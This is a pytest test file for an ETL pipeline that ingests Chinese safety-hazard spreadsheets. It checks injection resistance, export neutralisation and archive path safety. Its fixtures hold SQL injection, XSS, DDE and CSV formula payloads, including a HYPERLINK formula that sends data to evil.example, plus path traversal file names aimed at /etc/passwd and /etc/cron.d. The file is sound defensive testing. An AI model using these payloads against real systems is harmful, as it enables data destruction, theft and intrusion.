"""SQL-like and script-like strings are data: stored verbatim, queried by bound parameters,
neutralised in CSV exports; no SQL in etl/ is built by formatting values into it."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest

from etl.read import queries
from etl.store import db as dbmod
from etl.store.writes import ingest
from tests.fixtures import query

ROOT = Path(__file__).resolve().parent.parent

HOSTILE = [
    "'; DROP TABLE hazards; --",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "Robert'); DELETE FROM upload_log WHERE ('1'='1",
    "$town OR 1=1",
    "{{hazard_scope}}",
    "%s %(x)s {0}",
    "\" OR \"\"=\"",
    "<img src=x onerror=alert(1)>",
    "../../etc/passwd",
]
HEADER = ["序号", "隐患编号", "行业领域", "单位名称", "隐患描述", "隐患等级", "发现日期", "整改期限", "整改状态",
          "整改完成日期", "责任部门"]


def hostile_rows() -> list[list]:
    rows = []
    for i, s in enumerate(HOSTILE):
        # the string as unit name, description, department and hazard id; one row also as sector
        rows.append([i + 1, f"{s}#{i}", "消防" if i % 4 else s, s, s, "一般", dt.datetime(2025, 3, 3 + i % 20),
                     dt.datetime(2025, 3, 28), "整改中", None, s])
    # rejected rows carrying the strings as the raw value (found date unreadable)
    for i, s in enumerate(HOSTILE):
        rows.append([100 + i, f"BAD-{i}", "消防", "某单位", "某隐患", "一般", s, None, "整改中", None, None])
    return rows


def hostile_xlsx() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    ws.append(["东城街道2025年3月安全生产隐患排查整改台账"])
    ws.append(HEADER)
    for r, row in enumerate(hostile_rows(), start=3):
        for c, v in enumerate(row, start=1):
            if v is None:
                continue
            cell = ws.cell(row=r, column=c, value=v)
            if isinstance(v, str):
                cell.data_type = "s"  # text that merely looks like a formula, as a clerk typed it
            elif isinstance(v, dt.datetime):
                cell.number_format = "yyyy-mm-dd"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def hostile_csv() -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["东城街道2025年4月安全生产隐患排查整改台账"])
    w.writerow(HEADER)
    for row in hostile_rows():
        w.writerow(["" if v is None else (v.strftime("%Y-%m-%d") if isinstance(v, dt.datetime) else v) for v in row])
    return buf.getvalue().encode("gb18030")


@pytest.fixture
def loaded(db_path):
    reps = [ingest(hostile_xlsx(), "'; DROP TABLE uploads; --<b>台账</b>.xlsx", db=db_path),
            ingest(hostile_csv(), "=cmd|' /C calc'!A0 东城街道.csv", db=db_path)]
    for r in reps:
        assert r.status == "loaded", r.message
        assert r.analysis.rows_loaded == len(HOSTILE) and r.analysis.rows_rejected == len(HOSTILE), r.analysis.problems
    return db_path, reps


def test_stored_verbatim_in_hazards_and_observations(loaded):
    db, reps = loaded
    got = {r[0]: r[1:] for r in query(db, "SELECT source_hazard_id, entity_name, description, department FROM hazards")}
    for i, s in enumerate(HOSTILE):
        assert got[f"{s}#{i}"] == (s, s, s), (s, got.get(f"{s}#{i}"))
    raw = {r[0] for r in query(db, "SELECT sector_raw FROM hazards_detail WHERE sector = 'other'")}
    assert HOSTILE[0] in raw and HOSTILE[4] in raw
    # the tables the strings name are all still there
    assert query(db, "SELECT count(*) FROM uploads") == [(2,)]
    assert query(db, "SELECT count(*) FROM hazard_observations") == [(2 * len(HOSTILE),)]
    assert {r[0] for r in query(db, "SELECT file_name FROM uploads")} == {r.file_name for r in reps}


def test_rejected_raw_values_verbatim(loaded):
    db, _ = loaded
    raw = [r[0] for r in query(db, "SELECT raw_value FROM load_errors WHERE column_name = '发现日期'")]
    for s in HOSTILE:
        assert raw.count(s) == 2, (s, raw)


def test_named_queries_bind_hostile_filters(loaded):
    db, _ = loaded
    con = dbmod.open_reader(db)
    try:
        base = queries.hazard_filters(start_month=dt.date(2025, 1, 1), end_month=dt.date(2025, 6, 1),
                                      as_of=dt.date(2025, 6, 30))
        for s in HOSTILE:
            f = {**base, "towns": [s], "sectors": [s], "departments": [s]}
            df = queries.run(con.cursor(), "hazard_list", **f, state=None, search=None, limit=100, offset=0)
            assert len(df) == 0  # no town is named like that: nothing, and no error
            f = {**base, "departments": [s]}
            df = queries.run(con.cursor(), "hazard_list", **f, state=None, search=s, limit=100, offset=0)
            assert set(df["description"]) == {s}, (s, df)
            detail = queries.run(con.cursor(), "hazard_detail", hazard_key=df["hazard_key"].iloc[0])
            assert detail["entity_name"].iloc[0] == s
        assert con.execute("SELECT count(*) FROM hazards").fetchone()[0] == len(HOSTILE)
    finally:
        con.close()


def test_errors_csv_neutralises_formula_cells(loaded, run_etl):
    db, reps = loaded
    for rep in reps:
        proc = run_etl("errors", rep.upload_id, "--csv", "--db", db)
        assert proc.returncode == 0, proc.stderr
        rows = list(csv.reader(io.StringIO(proc.stdout)))
        cells = [c for r in rows[1:] for c in r]
        assert cells, proc.stdout
        for c in cells:
            assert c[:1] not in ("=", "+", "-", "@", "\t", "\r"), c
        raw = [r[3] for r in rows[1:]]
        for s in HOSTILE:
            expect = "'" + s if s[:1] in "=+-@" else s
            assert expect in raw, (s, raw)


# ---------------------------------------------------------------- static: no values formatted into SQL

SQL_WORDS = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|FROM|WHERE|CREATE|DROP|ATTACH|VALUES|SET)\b")

# Audited: f-strings that put identifiers or constant SQL text (never values) into SQL.
# file -> the interpolated expressions allowed there (ast.unparse form).
ALLOWED = {
    "etl/store/load.py": {"CURRENT_COLS", "LATEST_WINS", "_LIVE", "touched", "current_hazards_sql(touched_only=True, several=True)",
                    "_TOUCHED", "_NAMED",
                    "OBS_TABLE[analysis.kind]", "cols", "_VISIT_COLS", "table", "macro",
                    # the repeat-group order's columns and window functions (ORDER_COLUMNS, a constant)
                    "order_set", "order_windows", "order_any"},
    "etl/admin/maintenance.py": {"table", "parts", "_CURRENT_COLS", "_REBUILD_SQL", "macro", "sel"},
    # column names from the module's constants and one '?' placeholder per column
    "etl/store/assignments.py": {"', '.join(_COLUMNS)", "', '.join('?' * len(_COLUMNS))"},
    "etl/demo/synthetic.py": {"', '.join(cols)", "', '.join(cur_cols)", "ph"},
}


def _formatted_sql(path: Path) -> list[tuple[int, str]]:
    """(line, expression) of every value interpolated into SQL-looking text in a Python file."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    out = []
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
            if SQL_WORDS.search(text) and not re.search(r"[\u4e00-\u9fff]", text):
                out += [(node.lineno, ast.unparse(v.value)) for v in node.values if isinstance(v, ast.FormattedValue)]
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod) and isinstance(node.left, ast.Constant) \
                and isinstance(node.left.value, str) and SQL_WORDS.search(node.left.value):
            out.append((node.lineno, "%-format: " + ast.unparse(node.right)))
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format" \
                and isinstance(node.func.value, ast.Constant) and isinstance(node.func.value.value, str) \
                and SQL_WORDS.search(node.func.value.value):
            out.append((node.lineno, ".format: " + ", ".join(ast.unparse(a) for a in node.args + node.keywords)))
    return out


def test_no_values_formatted_into_sql_in_python():
    offenders = []
    for path in sorted((ROOT / "etl").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        for line, expr in _formatted_sql(path):
            if expr not in ALLOWED.get(rel, set()):
                offenders.append(f"{rel}:{line}: {expr}")
    assert not offenders, "values formatted into SQL:\n" + "\n".join(offenders)


def test_the_scanner_catches_formatting(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text('def f(con, town):\n    con.execute(f"SELECT * FROM hazards WHERE town = \'{town}\'")\n'
                   '    con.execute("DELETE FROM t WHERE x = %s" % town)\n'
                   '    con.execute("UPDATE t SET a = {}".format(town))\n')
    assert [e for _, e in _formatted_sql(bad)] == ["town", "%-format: town", ".format: town"]


def test_sql_files_use_bound_params_only():
    problems = []
    for path in sorted((ROOT / "etl" / "read" / "sql").rglob("*.sql")):
        text = queries._strip_comments(path.read_text(encoding="utf-8"))
        rel = path.relative_to(ROOT).as_posix()
        if re.search(r"%\(?\w*\)?s|(?<!\{)\{(?!\{)[^{}]*\}(?!\})", text):
            problems.append(f"{rel}: Python format placeholder")
        if re.search(r"\?", re.sub(r"'[^']*'", "", text)):
            problems.append(f"{rel}: positional ? (use named $params)")
        for inc in re.findall(r"\{\{\s*([a-z_0-9]+)\s*\}\}", text):
            if not (ROOT / "etl" / "read" / "sql" / "_fragments" / f"{inc}.sql").exists():
                problems.append(f"{rel}: unknown fragment {inc}")
    assert not problems, problems
    assert len(list((ROOT / "etl" / "read" / "sql").glob("*.sql"))) >= 10


def test_upload_file_names_cannot_escape_the_archive(tmp_path, db_path):
    import hashlib

    archive = tmp_path / "data" / "archive"
    data = hostile_xlsx()
    for name in ("../../../../tmp/evil.xlsx", "/etc/cron.d/evil.xlsx", "..\\..\\evil.xlsx", "a/../../b.xlsx"):
        rep = ingest(data, name, db=db_path, archive_dir=archive)
        assert rep.status in ("loaded", "duplicate"), rep.message
    assert [p.name for p in archive.iterdir()] == [hashlib.sha256(data).hexdigest()]
    assert not (tmp_path / "evil.xlsx").exists() and not Path("/tmp/evil.xlsx").exists()
    assert query(db_path, "SELECT file_name FROM uploads") == [("../../../../tmp/evil.xlsx",)]
